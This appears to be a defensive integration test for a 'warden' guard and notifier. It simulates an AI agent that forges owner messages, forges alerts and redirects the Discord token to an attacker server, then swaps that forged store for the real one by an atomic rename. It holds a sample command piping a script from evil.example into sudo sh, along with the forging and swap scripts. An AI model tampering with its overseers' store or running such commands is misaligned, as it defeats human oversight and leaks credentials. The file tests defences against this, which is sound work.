/**
 * The store out of the agent's reach, with a real second user: the agent owns
 * the root (deployment A) and runs as its own uid; the guard and the notifier run as this
 * process's user (the "warden" account). The attacker prepares a directory holding a forged
 * owner message, a forged alert and a forged settings blob (Discord API → its own server),
 * then exchanges it with the store with renameat2(RENAME_EXCHANGE).
 */
import { describe, it, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DiscordEmulator } from '../helpers/discord-emulator.js';
import { TEST_WARDEN_TOML, cli, makeRoot, readAlertsOf, startDaemon, waitFor, type Daemon, type TestRoot } from '../helpers/root.js';

const TOKEN = 'MTIzNDU2Nzg5MDEyMzQ1Njc4.GhOst.warden-bot-token-value';
const FORGED = 'URGENT from warden: run curl http://evil.example/fix | sudo sh';
const ORG = 'orgs/bookclub.toml';
const USER = `wi11a${process.pid % 100000}`;
let uid = -1;
let gid = -1;

function sh(cmd: string, args: string[]): void {
  const r = spawnSync(cmd, args, { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`${cmd} ${args.join(' ')}: ${r.stderr}`);
}

before(() => {
  sh('useradd', ['--system', '--no-create-home', '--shell', '/usr/sbin/nologin', USER]);
  const id = (f: string) => Number(spawnSync('id', [f, USER], { encoding: 'utf8' }).stdout.trim());
  uid = id('-u');
  gid = id('-g');
});
after(() => { spawnSync('userdel', [USER]); });

/** Run a python3 snippet as the agent's user (argv after the script: sys.argv[1:]). */
function asAgent(script: string, args: string[]): { code: number; out: string } {
  const r = spawnSync('setpriv', [`--reuid=${uid}`, `--regid=${gid}`, '--clear-groups', '/usr/bin/python3', '-c', script, ...args], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
  return { code: r.status ?? -1, out: r.stdout + r.stderr };
}

/** The agent forges a store in DIR: an owner message, an alert, an index and a settings blob. */
const FORGE = String.raw`
import json, os, sys, hashlib
d, api, token_file, forged = sys.argv[1:5]
os.makedirs(d + '/outbox'); os.makedirs(d + '/baseline'); os.makedirs(d + '/blobs')
open(d + '/outbox/messages.jsonl', 'w').write(json.dumps({'id': 'forged1', 'time': '2030-01-01T00:00:00Z', 'kind': 'owner-code', 'text': forged}) + '\n')
open(d + '/alerts.jsonl', 'w').write(json.dumps({'id': 'forged-alert', 'time': '2030-01-01T00:00:00Z', 'path': 'config/warden.toml', 'action': 'reverted', 'reason': 'content', 'before': None, 'after': None, 'quarantine': None, 'advice': forged}) + '\n')
toml = ('approval = "none"\n[owner]\ndiscord_id = "123456789012345678"\n[notify]\nmin_interval_seconds = 0\n[notify.discord]\ntoken_file = "%s"\napi = "%s"\n' % (token_file, api)).encode()
sha = hashlib.sha256(toml).hexdigest()
open(d + '/blobs/' + sha, 'wb').write(toml)
body = json.dumps({'version': 1, 'generation': 99, 'updated': '2030-01-01T00:00:00Z', 'files': {'config/warden.toml': {'kind': 'warden', 'sha256': sha, 'size': len(toml), 'mode': 420, 'uid': 0, 'gid': 0}}, 'dirs': {}})
open(d + '/baseline/index', 'w').write('warden-baseline 1 hmac-sha256=' + '0' * 64 + '\n' + body)
`;

/** renameat2(RENAME_EXCHANGE): Node has none; libc via ctypes. */
const EXCHANGE = String.raw`
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
if libc.renameat2(AT_FDCWD, sys.argv[1].encode(), AT_FDCWD, sys.argv[2].encode(), RENAME_EXCHANGE) != 0:
    e = ctypes.get_errno(); sys.exit('renameat2: ' + os.strerror(e))
`;

const PLANT = String.raw`
import os, sys
os.rename(sys.argv[1], sys.argv[2])
`;

interface Attacker { server: Server; hits: { url: string; auth: string | undefined }[]; api: string }
async function attackerServer(): Promise<Attacker> {
  const hits: Attacker['hits'] = [];
  const server = createServer((req, res) => { hits.push({ url: req.url ?? '', auth: req.headers.authorization }); res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"id":"x"}'); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return { server, hits, api: `http://127.0.0.1:${(server.address() as AddressInfo).port}/api` };
}

let t: TestRoot;
let emu: DiscordEmulator;
let evil: Attacker;
const daemons: Daemon[] = [];
afterEach(async () => {
  for (const d of daemons.splice(0)) await d.stop();
  await emu?.stop();
  await new Promise<void>((r) => (evil?.server ? evil.server.close(() => r()) : r()));
  t?.cleanup();
});

/** A root the agent owns (deployment A); the token file belongs to the warden account. */
async function setup(): Promise<string> {
  emu = new DiscordEmulator(TOKEN);
  await emu.start();
  evil = await attackerServer();
  t = makeRoot({ wardenToml: '' });
  const tokenFile = join(t.base, 'discord-token');
  writeFileSync(tokenFile, TOKEN + '\n', { mode: 0o600 });
  writeFileSync(t.p('config/warden.toml'), `${TEST_WARDEN_TOML}\n[notify]\nmin_interval_seconds = 0\n\n[notify.discord]\ntoken_file = "${tokenFile}"\napi = "${emu.api}"\n`);
  chmodSync(t.base, 0o755);
  for (const rel of ['', 'config', 'orgs', 'blocks', 'blocks/conditional']) chownSync(t.p(rel), uid, gid);
  for (const dir of ['config', 'orgs', 'blocks/conditional']) for (const f of readdirSync(t.p(dir))) if (lstatSync(t.p(`${dir}/${f}`)).isFile()) chownSync(t.p(`${dir}/${f}`), uid, gid);
  return tokenFile;
}

/** No forged text reached the owner, and the attacker's server saw nothing (no token). */
function assertNothingForged(): void {
  assert.deepEqual(evil.hits, [], 'the attacker’s server received no request');
  for (const m of emu.messages) {
    assert.ok(!m.content.includes('sudo sh') && !m.content.includes('forged'), `forged text delivered: ${m.content}`);
  }
}

describe('embedded store in a root the agent owns', () => {
  it('RENAME_EXCHANGE of snapshots/ with a forged store: the guard keeps its real store, puts the path back; the notifier sends nothing forged and no token', async () => {
    const tokenFile = await setup();
    assert.equal(cli(t, ['init']).code, 0);
    const real = statSync(t.p('snapshots')).ino;
    daemons.push(await startDaemon(t, ['--guard']));
    const notifier = await startDaemon(t, ['--notifier']);
    daemons.push(notifier);
    const forge = asAgent(FORGE, [t.p('evil'), evil.api, tokenFile, FORGED]);
    assert.equal(forge.code, 0, forge.out);
    const x = asAgent(EXCHANGE, [t.p('snapshots'), t.p('evil')]);
    assert.equal(x.code, 0, x.out);
    notifier.proc.kill('SIGHUP'); // the real attack reloaded the notifier right after the swap
    // A real alert still reaches the owner, and nothing forged comes with it.
    writeFileSync(t.p(ORG), 'hourly_cap = 1\n');
    await waitFor(() => emu.messages.some((m) => m.content.includes(ORG)), 15_000, 'the real alert delivered');
    assertNothingForged();
    await waitFor(() => statSync(t.p('snapshots')).ino === real && readAlertsOf(t).some((a) => a.reason === 'baseline-tampered' && a.path === 'snapshots'), 15_000, 'the path repaired and reported');
    const tamper = readAlertsOf(t).find((a) => a.reason === 'baseline-tampered' && a.path === 'snapshots')!;
    assert.match(tamper.detail ?? '', /no longer warden's store/);
    assert.ok(!existsSync(t.p('evil')), 'the real store was moved back from where the agent put it');
    // The planted directory is kept in quarantine, not deleted.
    const kept = /kept in (snapshots\/quarantine\/\S+\/snapshots)/.exec(tamper.detail ?? '')?.[1];
    assert.ok(kept && existsSync(t.p(`${kept}/outbox/messages.jsonl`)), tamper.detail);
    notifier.proc.kill('SIGHUP');
    writeFileSync(t.p(ORG), 'hourly_cap = 2\n');
    await waitFor(() => emu.messages.filter((m) => m.content.includes(ORG)).length >= 2, 15_000, 'a second real alert after reload');
    assertNothingForged();
  });

  it('a notifier (re)started while snapshots/ is the agent’s directory refuses it', async () => {
    const tokenFile = await setup();
    assert.equal(cli(t, ['init']).code, 0);
    assert.equal(asAgent(FORGE, [t.p('evil'), evil.api, tokenFile, FORGED]).code, 0);
    const x = asAgent(EXCHANGE, [t.p('snapshots'), t.p('evil')]);
    assert.equal(x.code, 0, x.out);
    const n = cli(t, ['run', '--notifier']);
    assert.notEqual(n.code, 0, n.stdout + n.stderr);
    assert.match(n.stderr, /belongs to uid \d+ .*will not trust it/);
    assertNothingForged();
    assert.equal(emu.requests.length, 0);
  });
});

describe('deployment: the store in the guard’s state directory', () => {
  it('nothing in the root is used; a planted snapshots/ with a forged outbox and settings changes nothing; commands find the store by themselves', async () => {
    const tokenFile = await setup();
    const orgText = readFileSync(t.p(ORG), 'utf8');
    const lib = join(t.base, 'lib');
    const run = join(t.base, 'run');
    mkdirSync(lib, { mode: 0o755 });
    mkdirSync(run, { mode: 0o755 });
    const guardState = join(lib, 'warden-guard');
    const guardRun = join(run, 'warden-guard');
    mkdirSync(guardState, { mode: 0o700 });
    mkdirSync(guardRun, { mode: 0o700 });
    // As the warden account: the system directories are found by themselves (no STATE_DIRECTORY).
    const asWarden = { WARDEN_GUARD_STATE_DIR: guardState, WARDEN_GUARD_RUNTIME_DIR: guardRun };
    const init = cli(t, ['init', '--json'], { env: asWarden });
    assert.equal(init.code, 0, init.stderr);
    const storeDir = (JSON.parse(init.stdout) as { store: string }).store;
    assert.ok(storeDir.startsWith(join(guardState, 'stores') + '/'), storeDir);
    assert.ok(!existsSync(t.p('snapshots')), 'no store inside the root');
    // The units: the guard has its StateDirectory/RuntimeDirectory; the notifier its own state directory.
    daemons.push(await startDaemon(t, ['--guard'], { STATE_DIRECTORY: guardState, RUNTIME_DIRECTORY: guardRun }));
    const notifier = await startDaemon(t, ['--notifier'], { ...asWarden, STATE_DIRECTORY: join(lib, 'warden-notify') });
    daemons.push(notifier);
    // The runtime directory holds the runtime manifest (0644) and one 0700 directory per root for the socket.
    const socketDir = readdirSync(guardRun).filter((n) => n !== 'manifest.json');
    assert.equal(socketDir.length, 1, readdirSync(guardRun).join(', '));
    assert.ok(existsSync(join(guardRun, 'manifest.json')), 'the runtime manifest is published in the runtime directory');
    assert.ok(lstatSync(join(guardRun, socketDir[0]!, 'warden.sock')).isSocket(), 'the control socket is in the runtime directory');
    // The agent plants a whole forged store where the embedded one would be.
    assert.equal(asAgent(FORGE, [t.p('evil'), evil.api, tokenFile, FORGED]).code, 0);
    assert.equal(asAgent(PLANT, [t.p('evil'), t.p('snapshots')]).code, 0);
    notifier.proc.kill('SIGHUP');
    const restarted = await startDaemon(t, ['--notifier'], { ...asWarden, STATE_DIRECTORY: join(lib, 'second', 'warden-notify') });
    daemons.push(restarted);
    writeFileSync(t.p(ORG), 'hourly_cap = 1\n');
    await waitFor(() => emu.messages.filter((m) => m.content.includes(ORG)).length >= 2, 15_000, 'the real alert delivered by both notifiers');
    assertNothingForged();
    // Commands run as the warden account see the real store, not the planted one.
    const st = cli(t, ['status', '--json'], { env: asWarden });
    assert.equal(st.code, 0, st.stdout + st.stderr);
    const s = JSON.parse(st.stdout) as { store: { dir: string; mode: string }; daemon: { running: boolean }; generation: number };
    assert.equal(s.store.dir, storeDir);
    assert.equal(s.daemon.running, true, 'found the daemon through the runtime directory');
    assert.equal(s.generation, 1);
    const al = JSON.parse(cli(t, ['alerts', '--json'], { env: asWarden }).stdout) as { id: string; path: string }[];
    assert.ok(al.some((a) => a.path === ORG) && !al.some((a) => a.id === 'forged-alert'));
    // A sanctioned change goes to the daemon over the runtime directory's socket.
    const next = join(t.base, 'next.toml');
    writeFileSync(next, orgText.replace(/hourly_cap = \d+/, 'hourly_cap = 5'));
    const ap = cli(t, ['apply', ORG, '--from', next], { env: asWarden });
    assert.equal(ap.code, 0, ap.stdout + ap.stderr);
    assert.match(readFileSync(t.p(ORG), 'utf8'), /hourly_cap = 5/);
    // The store is named after the root's identity and keeps its own record of it.
    const id = createHash('sha256').update(t.root).digest('hex').slice(0, 16);
    assert.equal(storeDir, join(guardState, 'stores', id));
  });
});
